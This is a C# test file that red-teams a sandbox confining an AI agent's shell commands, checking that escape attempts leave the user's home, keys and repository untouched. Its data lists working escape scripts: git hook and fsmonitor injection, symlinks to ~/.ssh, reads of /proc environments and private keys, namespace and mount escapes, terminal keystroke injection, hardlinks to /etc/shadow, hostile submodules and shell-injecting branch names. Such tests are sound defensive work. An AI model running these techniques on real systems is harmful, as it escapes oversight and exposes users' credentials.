using System.Diagnostics;
using Ias.Tests;

namespace Ias.Engine.Tests.Ice;

/// <summary>Ways out tried by somebody who is not root, with the built program (<c>ias ice exec</c>): what an agent does, and what is
/// outside afterwards.</summary>
public sealed class RedTeamOfAnOrdinaryUserTests
{
    public static TheoryData<string> Ways =>
        [
            // the door's parser
            "git commit -q --allow-empty -m x; printf 'ref: refs/heads/feature/x\\nref: refs/heads/main\\n' > .git/HEAD",
            "id=$(git commit-tree -m x -p HEAD HEAD^{tree}); printf 'ref: refs/heads/main\\r\\n' > .git/HEAD; echo $id > .git/refs/heads/main",
            "id=$(git commit-tree -m x -p main HEAD^{tree}); printf '# pack-refs with: peeled fully-peeled sorted \\n%s refs/heads/main\\n%s refs/heads/feature/x\\n%s refs/heads/feature/x\\n^%s\\n' $id $(git rev-parse main) $id $id > .git/packed-refs",
            "head -c 40000000 /dev/zero | tr '\\0' a | git commit -q --allow-empty -F -",
            "mv .git/objects o; ln -s $(sed 's,/objects.*,/objects,' o/info/alternates) .git/objects",
            "d=.git/refs/heads; for i in $(seq 1 300); do d=$d/n; done; mkdir -p $d; for i in $(seq 1 10); do mkdir -p x && mv .git/refs/heads/n x/ && mkdir .git/refs/heads/n && mv x/n .git/refs/heads/n/; done",
            // the copy between turns: what the engine's own git and the next turn would obey
            "git config core.worktree /tmp; git config core.bare true; git config include.path ~/.ssh/id; git config core.fsmonitor \"touch $PWD/../PWNED\"",
            "for h in post-index-change reference-transaction post-checkout pre-auto-gc; do printf '#!/bin/sh\\ntouch ../PWNED ~/PWNED\\n' > .git/hooks/$h; chmod +x .git/hooks/$h; done; git commit -q --allow-empty -m x",
            "rm -rf .git/modules .git/worktrees; ln -s ~ .git/modules; ln -s ~/.ssh .git/worktrees; ln -sf ~/.ssh/id .git/info/sparse-checkout; git config core.sparseCheckout true",
            "git commit -q --allow-empty -m x; (sleep 300 & sleep 300 > /dev/null 2>&1 &) ; kill -9 -1",
            // the home's seeds, sockets and other processes
            "rm -rf ~/.ssh; ln -s / ~/.ssh; mv ~/.claude ~/c; ln -s /etc ~/.claude; ln -s ~/.bashrc ~/.profile; echo PWNED >> ~/.bashrc; mkdir -p ~/.config/git ~/.local/bin; echo PWNED > ~/.local/bin/git",
            "cat /proc/*/environ /proc/*/root/home/*/.ssh/id /proc/1/root/../../../$HOME/.ssh/id 2> /dev/null; for p in /proc/[0-9]*; do kill -9 ${p#/proc/} 2> /dev/null; done",
            "python3 -c 'import socket,os; s=socket.socket(socket.AF_UNIX); s.connect(os.environ[\"IAS_ICE_TURN\"]+\"/socket\"); s.send(b\"[\"*60000+b\"\\n\"); s=socket.socket(socket.AF_UNIX); s.connect(os.environ[\"IAS_ICE_TURN\"]+\"/socket\"); s.send(b\"{\\\"kind\\\":\\\"push\\\",\\\"remote\\\":\\\"origin\\\",\\\"refs\\\":[null],\\\"gitdir\\\":1}\\n\")'",
            "python3 -c 'import fcntl, termios; [fcntl.ioctl(f, termios.TIOCSTI, c.encode()) for f in (0, 1, 2) for c in \"touch ../PWNED\"]'; (exec 3<> /dev/tty; echo x >&3)",
            // namespaces, mounts, files of other kinds
            "unshare -Urm sh -c 'umount -l .git; umount -l .run; mount --bind /tmp .run; mount -t tmpfs x ~; mount -o remount,rw /; echo PWNED > .run/state.json; echo PWNED > ~/.bashrc; cat ~/.ssh/id; ls -d .git/refs && echo PWNED > .git/config'",
            "unshare -Urm sh -c 'mkdir /tmp/u /tmp/w; mount -t overlay x -o lowerdir=/,upperdir=/tmp/u,workdir=/tmp/w /mnt; cat /mnt/$HOME/.ssh/id; mount --rbind / /mnt; umount -l /mnt/$HOME; cat /mnt/$HOME/.ssh/id'",
            "mknod disk b 254 0; mknod mem c 1 1; ln /etc/shadow shadow; ln -s ~/.ssh/id README2.md; chmod u+s README.md; setcap cap_setuid+ep README.md; git add -A; git commit -qm links",
            "mv README.md x; ln -s ../home/.ssh/id README.md; git add -A; git commit -qm link; rm README.md; mkfifo README.md",
            "mv .run r; rmdir .run; ln -sfn /tmp .run; git clean -ffdxq; git add -f .run/x; mkdir .RUN; echo x > .RUN/state.json",
            // ias itself, with another environment
            "unset IAS_ICE_TURN IAS_TURN; $IAS ice exec -- git update-ref refs/heads/main HEAD; yes | $IAS allow; $IAS run-halt; $IAS ice git -- push origin HEAD:main; XDG_STATE_HOME=/tmp/s $IAS ice exec -- git push origin HEAD:main",
            "printf 'run_mode: {enabled: true}\\nice: {mounts: off, credentials: inherit, writable: [~/]}\\n' > .loa.config.yaml; env -i PATH=/usr/bin:/bin HOME=$HOME $IAS ice exec -- sh -c 'cat ~/.ssh/id'; rm .loa.config.yaml",
            // submodules and repositories of its own
            "git init -q evil; git -C evil config user.name a; git -C evil config user.email a@b; git -C evil commit -q --allow-empty -m e; git -C evil config core.fsmonitor 'touch ../../PWNED'; git -c protocol.file.allow=always submodule --quiet add ./evil sub; git commit -qm sub",
            "mkdir -p s/.git/objects s/.git/refs; echo 'ref: refs/heads/x' > s/.git/HEAD; printf '[core]\\n\\tfsmonitor = touch ../../PWNED\\n\\tworktree = ../../..\\n' > s/.git/config; chmod 0 s; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),s; git commit -qm s",
        ];

    [Theory]
    [MemberData(nameof(Ways))]
    public void Nothing_that_is_the_persons_is_read_moved_or_run(string script)
    {
        using var user = new OrdinaryUser();
        user.Person(
            "mkdir -p ~/.ssh ~/.claude; echo TOPSECRET > ~/.ssh/id; echo '# mine' > ~/.bashrc; echo '{}' > ~/.claude/settings.json; git tag v1 main; git pack-refs --all"
        );
        var before = Picture(user);

        var watch = Stopwatch.StartNew();
        var (_, output, error) = user.Agent($"IAS={user.Program}; cd {user.Work}; {script}");
        var (exit, next, _) = user.Agent("git log -1 --format=%s main; git branch --show-current");
        user.Person("git status > /dev/null; git fetch -q; git stash list; git submodule status; chmod -R u+rwX . 2> /dev/null; true");

        Assert.True(watch.Elapsed < TimeSpan.FromMinutes(2), $"it hung: it took {watch.Elapsed}");
        Assert.DoesNotContain("TOPSECRET", output + error);
        Assert.Equal("", user.Person("cd ..; find . -path ./program -prune -o -path ./home/.local -prune -o -name PWNED -print"));
        Assert.Equal("", user.Person("cd ../home; grep -rl PWNED . --exclude-dir=.local || true"));
        Assert.Equal(before, Picture(user));
        Assert.Equal((0, "first\nfeature/x\n"), (exit, next));
        Assert.Equal("", user.Person("git log --all -p | grep TOPSECRET || true"));
    }

    [Fact]
    public void Names_of_branches_that_a_turn_chose_run_nothing_where_the_command_with_them_is_typed()
    {
        using var user = new OrdinaryUser();

        var (_, _, error) = user.Agent(
            """
            n=0
            for name in "$(printf '\342\200\256evil')" '$(touch${IFS}PWNED)' "a'b" '`touch${IFS}PWNED`' 'x;touch${IFS}PWNED' '-m' '&touch${IFS}PWNED' 'x"y' 'a!b'; do
                n=$((n + 1)); mkdir -p .git/refs/heads/"$(dirname "$name")"; git commit-tree -m $n HEAD^{tree} > .git/refs/heads/"$name"
            done
            """
        );
        foreach (var line in error.Split('\n').Where(line => line.Contains("to have them: ")))
        {
            user.Person(line[(line.IndexOf("to have them: ", StringComparison.Ordinal) + "to have them: ".Length)..]);
        }

        Assert.DoesNotContain('\u202e', error);
        Assert.Equal("", user.Person("find .. -name PWNED"));
        Assert.True(int.Parse(user.Person("git for-each-ref refs/heads/left | wc -l")) >= 6, error);
    }

    [Fact]
    public void What_is_hidden_from_git_inside_is_seen_outside()
    {
        using var user = new OrdinaryUser();

        user.Agent(
            "echo '* -diff' > .git/info/attributes; echo '*' > .git/info/exclude; git update-index --skip-worktree README.md; echo changed > README.md; echo n > new; git config core.bigFileThreshold 1; git update-index --assume-unchanged README.md"
        );

        Assert.Equal("M README.md\n?? new", user.Person("git status --porcelain"));
        Assert.Contains("+changed", user.Person("git diff"));
    }

    [Fact]
    public async Task Of_two_commands_at_the_same_time_no_commit_is_lost()
    {
        using var user = new OrdinaryUser();

        var first = Task.Run(() =>
            user.Agent("git commit -q --allow-empty -m one; touch one; for i in $(seq 100); do [ -e two ] && break; sleep 0.1; done")
        );
        var second = Task.Run(() =>
            user.Agent("for i in $(seq 100); do [ -e one ] && break; sleep 0.1; done; git commit -q --allow-empty -m two; touch two")
        );
        var said = string.Concat((await Task.WhenAll(first, second)).Select(one => one.Error));

        var all = user.Person("git log --format=%s feature/x $(git for-each-ref --format='%(refname)' refs/ias/left)").Split('\n');
        Assert.True(all.Contains("one") && all.Contains("two"), said);
        Assert.Contains("was moved by somebody else while the turn ran", said);
        Assert.Contains(user.Person("git log -1 --format=%s"), (string[])["one", "two"]);
    }

    [Fact]
    public void A_large_file_goes_to_the_remote_whatever_the_turns_lfsconfig_says()
    {
        using var user = new OrdinaryUser();
        Assert.SkipWhen(TemporaryRepository.TryRun("git", "/", "lfs", "version").Code != 0, "git-lfs is not installed");
        user.Person(
            "git lfs install --local > /dev/null; echo '*.bin filter=lfs diff=lfs merge=lfs -text' > .gitattributes; echo a > a.bin; git add -A; git commit -qm a; git push -q origin feature/x"
        );

        var (exit, _, error) = user.Agent(
            "printf '[lfs]\\n\\turl = https://elsewhere.invalid/\\n[remote \"origin\"]\\n\\tlfsurl = https://elsewhere.invalid/\\n' > .lfsconfig; git config lfs.url https://elsewhere.invalid/; echo b > b.bin; git add -A; git commit -qm b; git push -q origin feature/x"
        );

        Assert.True(exit == 0, error);
        Assert.Equal("2", user.Person("find ../remote.git/lfs/objects -type f | wc -l"));
    }

    // Everything of the repository, its remote and the home that is not the branch's own, its objects and its index.
    private static string Picture(OrdinaryUser user) =>
        user.Person(
            """
            git for-each-ref refs/heads/main refs/tags refs/remotes; git --git-dir=../remote.git for-each-ref; cat .git/HEAD
            find .git ../home -path '*/objects' -prune -o -path .git/logs -prune -o -path .git/refs -prune -o -path ../home/.local -prune -o -type f \
                ! -name index ! -name ORIG_HEAD ! -name FETCH_HEAD ! -name packed-refs -print0 | sort -z | xargs -0 sha256sum
            find ../home -path ../home/.local -prune -o -print | sort; ls .run 2> /dev/null | grep -v ice.log; git --git-dir=.git config --list
            """
        );
}
